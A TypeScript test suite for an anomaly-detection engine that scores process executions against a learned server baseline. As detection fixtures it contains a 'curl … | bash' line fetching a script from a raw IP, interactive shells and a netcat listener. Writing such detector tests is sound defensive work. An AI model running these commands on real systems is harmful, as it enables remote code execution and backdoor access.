import assert from 'node:assert/strict';
import { describe, test } from 'node:test';

import type { ExecutionEvent } from '@vedette/core';
import fc from 'fast-check';

import type { EventRow } from '../store/events/event-store.ts';
import { ESTABLISHED_MS, establishedJournal } from './testing/established-journal.ts';
import { foldAtOnce } from './testing/fold-at-once.ts';
import { batchOf, execution } from './testing/records.ts';

const DAY_MS = 86_400_000;

/** The rows of events that come after an established week, each on its own day. */
function after(...events: readonly ExecutionEvent[]): readonly EventRow[] {
  const batches = events.map((event, day) => {
    const t = ESTABLISHED_MS + day * DAY_MS;
    return batchOf([{ ...event, t }], { id: `after ${day}`, receivedMs: t });
  });
  return foldAtOnce([...establishedJournal(), ...batches]).rows.slice(-events.length);
}

const scoreOf = (event: ExecutionEvent): number => after(event)[0]?.score ?? -1;

describe('the published examples, on an established baseline of the server', () => {
  test('a restarted worker is at most 0.05', () => {
    const worker = execution('node /srv/app/worker.js --port 8091', { parent: 'node' });
    assert.ok(scoreOf(worker) <= 0.05);
  });

  test('a new build script is between 0.5 and 0.8, and falls with each quiet repetition', () => {
    const script = execution('bash /srv/app/build-docs.sh');
    const rows = after(script, script, script, script, script, script, script);
    const scores = rows.map(({ score }) => score ?? -1);
    const [first = -1] = scores;
    assert.ok(first >= 0.5 && first <= 0.8, String(first));
    for (const [at, score] of scores.entries())
      assert.ok(at === 0 || score < (scores[at - 1] ?? 0), scores.join(' '));
    assert.ok((scores.at(-1) ?? 1) < 0.2, scores.join(' '));
  });

  test('a debug shell left running is at least 0.8, and a finding', () => {
    for (const command of ['bash -i', 'sh']) {
      const [row] = after(execution(command, { parent: 'node', kind: 'running' }));
      assert.ok((row?.score ?? 0) >= 0.8, String(row?.score));
      assert.notEqual(row?.finding, null);
    }
  });

  test('curl … | bash as root is at least 0.9, and a finding', () => {
    const argv = ['bash', '-c', 'curl -s http://185.1.2.3/x.sh | bash'];
    const [row] = after(execution('bash', { argv }));
    assert.ok((row?.score ?? 0) >= 0.9, String(row?.score));
    assert.notEqual(row?.finding, null);
  });
});

describe('learning', () => {
  test('gives the same scores in whatever batches the events came', () => {
    const t = ESTABLISHED_MS;
    const command = fc.constantFrom('sleep 30', 'make all', 'nc -l 4444', 'git fetch origin dev');
    fc.assert(
      fc.property(
        fc.array(command, { minLength: 1, maxLength: 30 }),
        fc.array(fc.nat({ max: 30 }), { maxLength: 6 }),
        (commands, cuts) => {
          const events = commands.map((one) => execution(one, { t }));
          const at = [0, ...cuts, events.length].toSorted((a, b) => a - b);
          const batches = at
            .slice(1)
            .map((end, cut) => events.slice(at[cut], end))
            .filter(({ length }) => length > 0)
            .map((part, number) => batchOf(part, { id: `cut ${number}`, receivedMs: t }));
          const whole = batchOf(events, { id: 'whole', receivedMs: t });
          const said = (records: typeof batches): unknown =>
            foldAtOnce([...establishedJournal(), ...records])
              .rows.slice(-events.length)
              .map(({ score, p, reasons, nearest, finding }) => ({
                ...{ score, p, reasons, nearest, finding },
              }));
          assert.deepEqual(said(batches), said([whole]));
        },
      ),
      { numRuns: 20 },
    );
  });
});
